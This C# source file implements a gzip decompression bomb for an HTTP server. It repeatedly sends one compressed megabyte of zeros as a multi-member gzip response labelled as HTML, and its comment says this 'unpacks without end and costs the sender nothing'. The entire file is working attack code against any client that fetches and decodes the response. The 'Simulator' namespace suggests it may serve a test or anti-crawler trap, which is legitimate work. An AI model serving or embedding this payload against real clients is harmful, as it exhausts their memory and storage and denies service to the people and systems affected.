using System.IO.Compression;
using Microsoft.AspNetCore.Http;

namespace Nec.Simulator;

/// <summary>A gzip stream may have many members, so one packed megabyte sent over and over unpacks without end and costs the sender nothing.</summary>
internal static class Bomb
{
    private static readonly Lazy<byte[]> Member = new(() =>
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Optimal))
        {
            gzip.Write(new byte[1024 * 1024]);
        }

        return packed.ToArray();
    });

    public static async Task Send(HttpContext context, int megabytes)
    {
        context.Response.ContentType = "text/html; charset=utf-8";
        context.Response.Headers.ContentEncoding = "gzip";
        for (var sent = 0; sent < megabytes; sent++)
        {
            await context.Response.Body.WriteAsync(Member.Value, context.RequestAborted);
        }
    }
}
